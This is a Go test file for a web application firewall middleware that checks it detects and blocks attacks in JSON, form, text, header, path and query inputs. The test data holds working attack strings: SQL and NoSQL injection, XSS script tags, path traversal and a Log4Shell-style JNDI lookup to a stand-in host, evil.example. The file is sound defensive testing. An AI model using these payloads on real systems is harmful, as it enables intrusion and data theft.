package middleware_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/makerguard/makerguard"
	"github.com/makerguard/makerguard/middleware"
	"github.com/makerguard/makerguard/threat"
)

// history keeps what was recorded, or fails.
type history struct {
	found []makerguard.Finding
	last  threat.Sighting
	err   error
}

func (h *history) Record(_ context.Context, s threat.Sighting) ([]makerguard.Threat, error) {
	h.found = append(append(h.found, s.Blocked...), s.Watched...)
	h.last = s
	return nil, h.err
}

func inspection(t testing.TB, log *history) *middleware.Inspection {
	t.Helper()
	d, err := threat.NewDetector(threat.DetectorConfig{Paranoia: 1})
	if err != nil {
		t.Fatal(err)
	}
	return &middleware.Inspection{Detector: d, Log: log, Seen: new(middleware.CleanValues)}
}

const injection = "1' OR '1'='1' -- "

func TestInspection_FindsAttacksWhereverTheyStand(t *testing.T) {
	for name, tc := range map[string]struct {
		contentType, body, header string
		blocked                   bool
	}{
		"clean JSON":             {"application/json", `{"name":"O'Brien & Sons"}`, "", false},
		"attack in JSON":         {"application/json; charset=utf-8", `{"a":[{"b":"` + injection + `"}]}`, "", true},
		"attack in problem JSON": {"application/merge-patch+json", `{"$where":"sleep(1)"}`, "", true},
		"JSON without a type":    {"", `{"user":{"$ne":""}}`, "", true},
		"attack in a form":       {"application/x-www-form-urlencoded", "q=1%27+OR+%271%27%3D%271%27+--+", "", true},
		"operator in form names": {"application/x-www-form-urlencoded", "user[$ne]=", "", true},
		"attack in text":         {"text/plain", "<script>alert(1)</script>", "", true},
		"attack in a header":     {"application/json", "{}", "${jndi:ldap://evil.example/a}", true},
		"binary is not read":     {"application/octet-stream", injection, "", false},
		"attack after 900 KiB":   {"application/json", `{"pad":"` + strings.Repeat("a", 900<<10) + `","q":"` + injection + `"}`, "", true},
	} {
		log := &history{}
		var got string
		h := inspection(t, log).Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			got = string(b)
		}))
		r := httptest.NewRequest(http.MethodPost, "/products", strings.NewReader(tc.body))
		r.Header.Set("Content-Type", tc.contentType)
		if tc.header != "" {
			r.Header.Set("Referer", tc.header)
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if blocked := w.Code == http.StatusForbidden; blocked != tc.blocked || blocked != (len(log.found) > 0) {
			t.Errorf("%s: %d %.200s with %d findings recorded, want blocked %v", name, w.Code, w.Body, len(log.found), tc.blocked)
		}
		if !tc.blocked && got != tc.body {
			t.Errorf("%s: the handler read %d bytes, want the whole body of %d", name, len(got), len(tc.body))
		}
	}
}

// What is larger than is inspected reaches the handler whole, and is not malformed for where the
// inspected part ends.
func TestInspection_PassesOnWhatFollowsTheInspectedPart(t *testing.T) {
	long := strings.Repeat("Größe 🕶 ", middleware.MaxInspected/12)
	escaped := strings.Repeat("Gr%C3%B6%C3%9Fe+%F0%9F%95%B6", middleware.MaxInspected/25)
	tests := map[string]struct{ contentType, body string }{
		"JSON unnamed":  {"", `{"description":"` + long + `"}`},
		"a JSON array":  {"application/json", "[1" + strings.Repeat(", 17", middleware.MaxInspected/4) + "]"},
		"JSON keywords": {"application/json", "[ true" + strings.Repeat(",false", middleware.MaxInspected/6) + "]"},
	}
	for n := range 28 { // so that every byte is once the last that is read
		pad := strings.Repeat("a", n)
		tests[fmt.Sprint("text after ", n)] = struct{ contentType, body string }{"text/plain", pad + long}
		tests[fmt.Sprint("JSON after ", n)] = struct{ contentType, body string }{"application/json", `{"description":"` + pad + long + `"}`}
		tests[fmt.Sprint("a form after ", n)] = struct{ contentType, body string }{"application/x-www-form-urlencoded", "text=" + pad + escaped}
	}
	for name, tc := range tests {
		for _, known := range []bool{true, false} {
			log, got := &history{}, ""
			h := inspection(t, log).Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				b, err := io.ReadAll(r.Body)
				got = string(b)
				if err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}))
			r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(tc.body))
			if !known {
				r.ContentLength = -1
			}
			r.Header.Set("Content-Type", tc.contentType)
			h.ServeHTTP(httptest.NewRecorder(), r)
			if got != tc.body || len(log.found) > 0 {
				t.Errorf("%s, length known %v: the handler read %d bytes of %d, found %+v", name, known, len(got), len(tc.body), log.found)
			}
		}
	}
}

// JSON that is too long to be read whole is still read as JSON.
func TestInspection_FindsAttacksInLongJSON(t *testing.T) {
	log := &history{}
	h := inspection(t, log).Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the handler was reached") }))
	r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(`{"filter":{"$where":"1"},"pad":"`+strings.Repeat("a", middleware.MaxInspected)+`"}`))
	r.Header.Set("Content-Type", "application/json")
	w := httptest.NewRecorder()
	if h.ServeHTTP(w, r); w.Code != http.StatusForbidden || len(log.found) != 1 || log.found[0].Input != "body/filter/$where" {
		t.Errorf("status %d, found %+v, want the operator", w.Code, log.found)
	}
}

// goal: V16.5.2 — a history that cannot be written does not let an attack through.
func TestInspection_FailsClosed(t *testing.T) {
	in := inspection(t, &history{err: makerguard.StoreUnavailable})
	w := httptest.NewRecorder()
	in.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the handler was reached") })).
		ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", nil))
	if w.Code != http.StatusForbidden {
		t.Errorf("status %d, want 403", w.Code)
	}
	in.Monitor = true
	w = httptest.NewRecorder()
	in.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})).
		ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", nil))
	if w.Code != http.StatusOK {
		t.Errorf("monitoring: status %d, want 200: watching never refuses", w.Code)
	}
}

// What was remembered as clean does not vouch for anything else, nor for itself in another place.
func TestInspection_RemembersCleanValuesOnly(t *testing.T) {
	in := inspection(t, &history{})
	parts := map[string]func(v string) []makerguard.Finding{
		"header": func(v string) []makerguard.Finding { return in.Head(nil, "/", "", http.Header{"User-Agent": {v}}) },
		"cookie": func(v string) []makerguard.Finding {
			return in.Head(nil, "/", "", http.Header{"Cookie": {"note=" + url.QueryEscape(v)}})
		},
		"path":  func(v string) []makerguard.Finding { return in.Head(nil, "/notes/"+v, "", nil) },
		"query": func(v string) []makerguard.Finding { return in.Head(nil, "/", "note="+url.QueryEscape(v), nil) },
	}
	for i := range 5000 { // more than are remembered
		clean, hostile := fmt.Sprintf("Chromium for X11, build %d", i), fmt.Sprintf("<script>alert(%d)</script>", i)
		for range 2 {
			for name, inspect := range parts {
				if found := inspect(clean); len(found) != 0 {
					t.Fatalf("%s %q: %v, want nothing", name, clean, found)
				}
				if found := inspect(hostile); len(found) == 0 {
					t.Fatalf("%s %q: nothing found", name, hostile)
				}
			}
		}
	}
	const operator = "price[$gt]=0"
	in.Head(nil, operator, "", http.Header{"User-Agent": {operator}})
	if found := in.Head(nil, "/", operator, nil); len(found) == 0 {
		t.Errorf("%q as a query: nothing found after it was a path and a header", operator)
	}
}

// A clean path that was remembered does not vouch for another one, nor a clean header or cookie for
// a path that is none.
func TestInspection_RemembersCleanPathsOnly(t *testing.T) {
	in := inspection(t, &history{})
	for i := range 10_000 { // more than are remembered
		clean := fmt.Sprintf("/products/%d", i)
		asHeader, asCookie := fmt.Sprintf("http://127.0.0.1/admin%d", i), fmt.Sprintf("x ../ y%d", i)
		for range 2 {
			if found := in.Head(nil, clean, "", http.Header{"Referer": {asHeader}, "Cookie": {asCookie}}); len(found) != 0 {
				t.Fatalf("%q, %q, %q: %v, want nothing", clean, asHeader, asCookie, found)
			}
			for _, hostile := range []string{asHeader, asCookie} {
				if found := in.Head(nil, hostile, "", nil); len(found) == 0 {
					t.Fatalf("path %q: nothing found", hostile)
				}
			}
		}
	}
}

// What repeats with every request costs no garbage.
func TestInspection_KnownHeadsCostNoAllocation(t *testing.T) {
	in := inspection(t, &history{})
	h := http.Header{
		"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}, "Accept": {"*/*"}, "Cookie": {"theme=dark; lang=fr"},
		"Accept-Language": {"en-GB,en;q=0.8"}, "Content-Type": {"application/json"}, "Referer": {"https://market.example/products/new"},
	}
	if n := testing.AllocsPerRun(100, func() { in.Head(nil, "/products/52_18-140", "page=2&sort=name", h) }); n > 0 {
		t.Errorf("Head allocates %v times, want 0", n)
	}
}

// rules judge as they are told.
type rules struct {
	mfr                makerguard.ManufacturerID
	route              string
	blocking, watching bool
}

func (r *rules) Judge(_ context.Context, mfr makerguard.ManufacturerID, route string, fs []makerguard.Finding) (blocking, watched []makerguard.Finding) {
	r.mfr, r.route = mfr, route
	switch {
	case r.blocking:
		return fs, nil
	case r.watching:
		return nil, fs
	}
	return nil, nil
}

// A route that only watches does so whatever the rules say; otherwise the rules decide.
func TestInspection_RulesDecide(t *testing.T) {
	for _, tc := range []struct {
		name             string
		rules            rules
		monitor          bool
		status           int
		blocked, watched int
	}{
		{"block", rules{blocking: true}, false, 403, 1, 0},
		{"watch", rules{watching: true}, false, 200, 0, 1},
		{"overlook", rules{}, false, 200, 0, 0},
		{"block where the route watches", rules{blocking: true}, true, 200, 0, 1},
		{"watch where the route watches", rules{watching: true}, true, 200, 0, 1},
	} {
		log := &history{}
		in := inspection(t, log)
		in.Rules, in.Monitor = &tc.rules, tc.monitor
		r := httptest.NewRequest(http.MethodGet, "/products/17?q=%3Cscript%3Ealert(1)%3C/script%3E", nil)
		r = r.WithContext(makerguard.WithPrincipal(r.Context(), &makerguard.Principal{ManufacturerID: "mfr_1"}))
		w := httptest.NewRecorder()
		in.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})).ServeHTTP(w, r)
		if w.Code != tc.status || min(len(log.last.Blocked), 1) != tc.blocked || min(len(log.last.Watched), 1) != tc.watched {
			t.Errorf("%s: %d with %d blocked and %d watched, want %d, %d, %d", tc.name, w.Code, len(log.last.Blocked), len(log.last.Watched), tc.status, tc.blocked, tc.watched)
		}
		if tc.rules.mfr != "mfr_1" || tc.rules.route != "GET /products/17" {
			t.Errorf("%s: judged for %q on %q, want mfr_1 on GET /products/17", tc.name, tc.rules.mfr, tc.rules.route)
		}
		if tc.blocked+tc.watched > 0 && (log.last.Route != "GET /products/17" || log.last.Principal == nil) {
			t.Errorf("%s: recorded %+v, want route and principal", tc.name, log.last)
		}
	}
}

// However much a body holds, the answer stays short.
func TestInspection_AnswerIsBounded(t *testing.T) {
	body := `["` + strings.Repeat(`<script>alert(1)</script>","`, 5000) + `"]`
	r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	w := httptest.NewRecorder()
	inspection(t, &history{}).Handler(http.NotFoundHandler()).ServeHTTP(w, r)
	if w.Code != http.StatusForbidden || w.Body.Len() > 20_000 {
		t.Errorf("%d with %d bytes, want 403 with at most 20000", w.Code, w.Body.Len())
	}
}

func TestRoute(t *testing.T) {
	for _, tc := range []struct{ method, target, pattern, want string }{
		{"GET", "/products/17", "", "GET /products/17"},
		{"GET", "/a%2Fb/c?q=1", "", "GET /a%2Fb/c"},
		{"PUT", "/products/17", "PUT /products/{id}", "PUT /products/{id}"},
		{"PUT", "/products/17", "/products/{id}", "PUT /products/{id}"},
		{"PUT", "/products/17", "/", "PUT /products/17"},
		{"PUT", "/products/17", "/products/", "PUT /products/17"},
		{"PUT", "/products/17", "/{rest...}", "PUT /products/17"},
		{"GET", "/products/", "/products/{$}", "GET /products/"},
		{"PUT", "/products/17", "example.com/products/{id}", "PUT /products/17"},
		{"PUT", "/products/17", "PUT example.com/products/{id}", "PUT /products/17"},
	} {
		r := httptest.NewRequest(tc.method, tc.target, nil)
		r.Pattern = tc.pattern
		if got := middleware.Route(r); got != tc.want {
			t.Errorf("Route(%s %s, pattern %q) = %q, want %q", tc.method, tc.target, tc.pattern, got, tc.want)
		}
	}
}
